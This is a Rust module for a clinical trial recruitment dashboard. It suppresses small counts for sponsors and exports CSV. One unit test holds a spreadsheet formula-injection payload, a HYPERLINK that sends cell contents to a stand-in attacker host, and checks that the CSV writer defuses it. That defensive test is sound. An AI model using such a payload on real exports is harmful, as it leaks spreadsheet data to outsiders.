//! What a reader sees of a [`Funnel`]: every figure as a [`Cell`] (exact for coordinators
//! and administrators, suppressed for sponsors), the derived rates only when their terms are
//! visible, and the CSV export.

use super::funnel::{Funnel, Projection, STAGES, Stage, rate, week_label};
use super::small::{self, Cell, Relation};
use chrono::NaiveDate;
use std::collections::HashMap;
use uuid::Uuid;

/// Below this many referrals a median is not shown to sponsors.
pub const MEDIAN_MIN: u32 = 5;

/// One row of a breakdown.
#[derive(Debug, Clone, PartialEq)]
pub struct Row {
    /// Site or practice name, or ISO week.
    pub label: String,
    /// One cell per stage of [`Stage::ALL`].
    pub cells: Vec<Cell>,
}

impl Row {
    /// The cell of a stage.
    pub fn cell(&self, s: Stage) -> Cell {
        self.cells.get(s.index()).copied().unwrap_or(Cell::Hidden)
    }
}

/// A conversion between two successive stages of the main path.
#[derive(Debug, Clone, PartialEq)]
pub struct Conversion {
    /// From.
    pub from: Stage,
    /// To.
    pub to: Stage,
    /// `to / from`, when both are visible and `from` is not zero.
    pub rate: Option<f64>,
}

/// The dashboard's figures as shown.
#[derive(Debug, Clone, PartialEq)]
pub struct View {
    /// Whether small counts are suppressed.
    pub suppressed: bool,
    /// The whole trial.
    pub total: Row,
    /// Per site.
    pub sites: Vec<Row>,
    /// Per practice.
    pub practices: Vec<Row>,
    /// Per ISO week.
    pub weeks: Vec<Row>,
    /// Decline reasons at the alert.
    pub decline_reasons: Vec<(String, Cell)>,
    /// Screen-failure reasons.
    pub screen_fail_reasons: Vec<(String, Cell)>,
    /// Referrals screened.
    pub screened: Cell,
    /// Conversions along the main path.
    pub conversions: Vec<Conversion>,
    /// Screen failures / screened.
    pub screen_fail_rate: Option<f64>,
    /// Enrolment target.
    pub target: Option<u32>,
    /// The projection; `None` when it would reveal a small count.
    pub projection: Option<Projection>,
    /// Cumulative enrolment per week (Monday) for the chart; for sponsors only the weeks
    /// where the increase since the previous point is zero or at least 5.
    pub cumulative: Vec<(NaiveDate, u32)>,
    /// Median days from referral to first contact, with its count.
    pub to_contact: Option<(f64, u32)>,
    /// Median days from referral to enrolment, with its count.
    pub to_enrolment: Option<(f64, u32)>,
}

/// Builds the view; `names` gives site and practice names (the id when missing).
pub fn build(f: &Funnel, names: &HashMap<Uuid, String>, suppress: bool) -> View {
    let name = |id: &Uuid| names.get(id).cloned().unwrap_or_else(|| id.to_string());
    // Rows in order: total, sites, practices, weeks (labels sorted for stable output).
    let mut sites: Vec<(String, [u32; STAGES])> =
        f.by_site.iter().map(|(id, c)| (name(id), c.0)).collect();
    sites.sort_by(|a, b| a.0.cmp(&b.0));
    let mut practices: Vec<(String, [u32; STAGES])> = f
        .by_practice
        .iter()
        .map(|(id, c)| (name(id), c.0))
        .collect();
    practices.sort_by(|a, b| a.0.cmp(&b.0));
    let weeks: Vec<(String, [u32; STAGES])> = f
        .by_week
        .iter()
        .map(|(w, c)| (week_label(*w), c.0))
        .collect();

    let mut values: Vec<u32> = f.total.0.to_vec();
    let block = |values: &mut Vec<u32>, rows: &[(String, [u32; STAGES])]| {
        let start = values.len();
        for (_, c) in rows {
            values.extend_from_slice(c);
        }
        start
    };
    let site_start = block(&mut values, &sites);
    let practice_start = block(&mut values, &practices);
    let week_start = block(&mut values, &weeks);
    let decline_start = values.len();
    values.extend(f.decline_reasons.values());
    let fail_start = values.len();
    values.extend(f.screen_fail_reasons.values());
    let screened_at = values.len();
    values.push(f.screened);

    let cells = if suppress {
        let mut relations = Vec::new();
        let at = |start: usize, row: usize, s: Stage| start + row * STAGES + s.index();
        for (start, rows, stages) in [
            (site_start, sites.len(), &Stage::SITE[..]),
            (practice_start, practices.len(), &Stage::ALL[..]),
            (week_start, weeks.len(), &Stage::ALL[..]),
        ] {
            for s in stages {
                relations.push(Relation {
                    total: s.index(),
                    parts: (0..rows).map(|r| at(start, r, *s)).collect(),
                });
            }
            for r in 0..rows {
                relations.push(Relation {
                    total: at(start, r, Stage::Answered),
                    parts: [Stage::Proposed, Stage::NotNow, Stage::Declined]
                        .iter()
                        .map(|s| at(start, r, *s))
                        .collect(),
                });
            }
        }
        relations.push(Relation {
            total: Stage::Answered.index(),
            parts: [Stage::Proposed, Stage::NotNow, Stage::Declined]
                .iter()
                .map(|s| s.index())
                .collect(),
        });
        relations.push(Relation {
            total: Stage::Declined.index(),
            parts: (decline_start..fail_start).collect(),
        });
        relations.push(Relation {
            total: Stage::ScreenFailed.index(),
            parts: (fail_start..screened_at).collect(),
        });
        small::suppress(&values, &relations)
    } else {
        small::exact(&values)
    };

    let rows = |start: usize, labels: &[(String, [u32; STAGES])]| -> Vec<Row> {
        labels
            .iter()
            .enumerate()
            .map(|(i, (label, _))| Row {
                label: label.clone(),
                cells: cells[start + i * STAGES..start + (i + 1) * STAGES].to_vec(),
            })
            .collect()
    };
    let total = Row {
        label: String::new(),
        cells: cells[..STAGES].to_vec(),
    };
    let ratio = |num: Cell, den: Cell| match (num.value(), den.value()) {
        (Some(n), Some(d)) => rate(n, d),
        _ => None,
    };
    let conversions = Stage::PATH
        .windows(2)
        .map(|w| Conversion {
            from: w[0],
            to: w[1],
            rate: ratio(total.cell(w[1]), total.cell(w[0])),
        })
        .collect();
    let screened = cells[screened_at];
    let e = &f.enrolment;
    let projection = if suppress && small::is_small(e.recent) {
        None
    } else {
        Some(e.projection)
    };
    let cumulative = if suppress {
        let hidden: Vec<bool> = (0..weeks.len())
            .map(|r| {
                cells[week_start + r * STAGES + Stage::Enrolled.index()]
                    .value()
                    .is_none()
            })
            .collect();
        let final_hidden = cells[Stage::Enrolled.index()].value().is_none();
        visible_steps(&e.cumulative, &hidden, final_hidden)
    } else {
        e.cumulative.clone()
    };
    let median = |m: Option<(f64, u32)>| m.filter(|(_, n)| !suppress || *n >= MEDIAN_MIN);
    View {
        suppressed: suppress,
        screen_fail_rate: ratio(total.cell(Stage::ScreenFailed), screened),
        conversions,
        sites: rows(site_start, &sites),
        practices: rows(practice_start, &practices),
        weeks: rows(week_start, &weeks),
        decline_reasons: f
            .decline_reasons
            .keys()
            .cloned()
            .zip(cells[decline_start..fail_start].iter().copied())
            .collect(),
        screen_fail_reasons: f
            .screen_fail_reasons
            .keys()
            .cloned()
            .zip(cells[fail_start..screened_at].iter().copied())
            .collect(),
        screened,
        target: e.target,
        projection,
        cumulative,
        to_contact: median(f.to_contact),
        to_enrolment: median(f.to_enrolment),
        total,
    }
}

/// The points of a cumulative series a sponsor may see, given which weekly counts are
/// hidden in the weekly table: the chart reveals the sum of the weeks between two points, so
/// each such run of weeks must hold no hidden count or at least two (weeks are merged until
/// it does). Nothing when the final figure is hidden.
pub fn visible_steps(
    points: &[(NaiveDate, u32)],
    hidden: &[bool],
    final_hidden: bool,
) -> Vec<(NaiveDate, u32)> {
    if final_hidden {
        return Vec::new();
    }
    // (point, hidden weeks in the run it closes)
    let mut out: Vec<((NaiveDate, u32), usize)> = Vec::new();
    let mut run = 0;
    for (i, p) in points.iter().enumerate() {
        run += usize::from(hidden.get(i).copied().unwrap_or(true));
        if run != 1 {
            out.push((*p, run));
            run = 0;
        }
    }
    // A last run with one hidden week merges with the runs before it.
    if let Some(&end) = points.last()
        && out.last().is_none_or(|(p, _)| *p != end)
    {
        while run == 1 {
            match out.pop() {
                Some((_, r)) => run += r,
                None => break,
            }
        }
        out.push((end, run));
    }
    out.into_iter().map(|(p, _)| p).collect()
}

/// A percentage with one decimal, or `–`.
pub fn percent(r: Option<f64>) -> String {
    r.map_or_else(|| "–".into(), |r| format!("{:.1} %", r * 100.0))
}

/// Days with one decimal, or `–`.
pub fn days(m: Option<(f64, u32)>) -> String {
    m.map_or_else(|| "–".into(), |(d, _)| format!("{d:.1}"))
}

fn csv_field(s: &str) -> String {
    // Spreadsheets run cells starting with `=`, `+`, `-`, `@`, a tab or a CR as formulas.
    let s = platform::csv::neutralise(s);
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

/// The funnel figures as CSV: `section,group,measure,value`.
pub fn csv(v: &View) -> String {
    let mut out = String::from("section,group,measure,value\n");
    let mut line = |section: &str, group: &str, measure: &str, value: String| {
        out.push_str(&format!(
            "{section},{},{measure},{}\n",
            csv_field(group),
            csv_field(&value)
        ));
    };
    for s in Stage::ALL {
        line("total", "", s.key(), v.total.cell(s).text());
    }
    for c in &v.conversions {
        line(
            "conversion",
            "",
            &format!("{}_to_{}", c.from.key(), c.to.key()),
            c.rate.map(|r| format!("{r:.4}")).unwrap_or_default(),
        );
    }
    for (section, rows, stages) in [
        ("site", &v.sites, &Stage::SITE[..]),
        ("practice", &v.practices, &Stage::ALL[..]),
        ("week", &v.weeks, &Stage::ALL[..]),
    ] {
        for r in rows {
            for s in stages {
                line(section, &r.label, s.key(), r.cell(*s).text());
            }
        }
    }
    for (reason, c) in &v.decline_reasons {
        line("decline_reason", reason, "declined", c.text());
    }
    for (reason, c) in &v.screen_fail_reasons {
        line("screen_fail_reason", reason, "screen_failed", c.text());
    }
    line("screening", "", "screened", v.screened.text());
    line(
        "screening",
        "",
        "screen_fail_rate",
        v.screen_fail_rate
            .map(|r| format!("{r:.4}"))
            .unwrap_or_default(),
    );
    line(
        "enrolment",
        "",
        "target",
        v.target.map(|t| t.to_string()).unwrap_or_default(),
    );
    line(
        "enrolment",
        "",
        "enrolled",
        v.total.cell(Stage::Enrolled).text(),
    );
    let projection = match v.projection {
        None => "suppressed".to_string(),
        Some(Projection::NoTarget) => "no_target".into(),
        Some(Projection::Reached) => "reached".into(),
        Some(Projection::NoRecentEnrolment) => "no_recent_enrolment".into(),
        Some(Projection::On(d)) => d.format("%Y-%m-%d").to_string(),
    };
    line("enrolment", "", "projected_completion", projection);
    let m = |m: Option<(f64, u32)>| m.map(|(d, _)| format!("{d:.1}")).unwrap_or_default();
    line("timing", "", "median_days_to_contact", m(v.to_contact));
    line("timing", "", "median_days_to_enrolment", m(v.to_enrolment));
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dashboard::funnel::{Counts, Enrolment};
    use std::collections::BTreeMap;

    fn d(n: i64) -> NaiveDate {
        NaiveDate::from_ymd_opt(2025, 1, 6).unwrap_or_default() + chrono::Duration::weeks(n)
    }

    #[test]
    fn steps_never_isolate_a_hidden_week() {
        // Weekly 6 (hidden as a complement), 3 (<5), 9: no point may sit after week 0 alone.
        let pts = [(d(0), 6), (d(1), 9), (d(2), 18)];
        assert_eq!(
            visible_steps(&pts, &[true, true, false], false),
            [(d(1), 9), (d(2), 18)]
        );
        // The last run has one hidden week: it merges back.
        let pts = [(d(0), 5), (d(1), 12), (d(2), 13), (d(3), 20)];
        assert_eq!(
            visible_steps(&pts, &[false, true, false, true], false),
            [(d(0), 5), (d(3), 20)]
        );
        assert_eq!(visible_steps(&pts, &[false; 4], false), pts);
        assert_eq!(visible_steps(&pts, &[false; 4], true), []);
    }

    fn counts(pairs: &[(Stage, u32)]) -> Counts {
        let mut c = Counts::default();
        for (s, n) in pairs {
            c.0[s.index()] = *n;
        }
        c
    }

    /// Two sites: 9 and 3 referred (12 in all). The 3 is `<5`; the 9 must hide with it, or
    /// 12 − 9 would give it away.
    #[test]
    fn sponsors_cannot_subtract() {
        let a = Uuid::from_u128(1);
        let b = Uuid::from_u128(2);
        let p = Uuid::from_u128(3);
        let site_a = counts(&[(Stage::Consented, 9), (Stage::Referred, 9)]);
        let site_b = counts(&[(Stage::Consented, 3), (Stage::Referred, 3)]);
        let total = counts(&[(Stage::Consented, 12), (Stage::Referred, 12)]);
        let f = Funnel {
            total,
            by_site: BTreeMap::from([(a, site_a), (b, site_b)]),
            by_practice: BTreeMap::from([(p, total)]),
            by_week: BTreeMap::from([(d(0), total)]),
            decline_reasons: BTreeMap::new(),
            screen_fail_reasons: BTreeMap::new(),
            screened: 0,
            enrolment: Enrolment {
                target: Some(10),
                enrolled: 0,
                recent: 0,
                projection: Projection::NoRecentEnrolment,
                cumulative: vec![(d(0), 0)],
            },
            to_contact: Some((2.0, 3)),
            to_enrolment: None,
        };
        let names = HashMap::from([(a, "A".to_string()), (b, "B".to_string())]);
        let v = build(&f, &names, true);
        assert_eq!(v.total.cell(Stage::Referred), Cell::Shown(12));
        assert_eq!(v.sites[0].cell(Stage::Referred), Cell::Hidden);
        assert_eq!(v.sites[1].cell(Stage::Referred), Cell::Small);
        assert_eq!(v.to_contact, None, "a median over 3 referrals is not shown");
        let text = csv(&v);
        assert!(text.contains("site,B,referred,<5\n"), "{text}");
        assert!(text.contains("site,A,referred,–\n"), "{text}");
        let exact = build(&f, &names, false);
        assert_eq!(exact.sites[0].cell(Stage::Referred), Cell::Shown(9));
        assert_eq!(exact.to_contact, Some((2.0, 3)));
        assert!(csv(&exact).contains("site,A,referred,9\n"));
    }

    #[test]
    fn csv_fields_are_quoted_and_defused() {
        assert_eq!(csv_field("a,b"), "\"a,b\"");
        assert_eq!(csv_field("=SUM(A1)"), "'=SUM(A1)");
        assert_eq!(csv_field("plain"), "plain");
        assert_eq!(csv_field("\tx"), "'\tx");
        assert_eq!(
            csv_field("-1+HYPERLINK(\"https://evil.example/?\"&I2;\"open\")"),
            "\"'-1+HYPERLINK(\"\"https://evil.example/?\"\"&I2;\"\"open\"\")\""
        );
    }
}
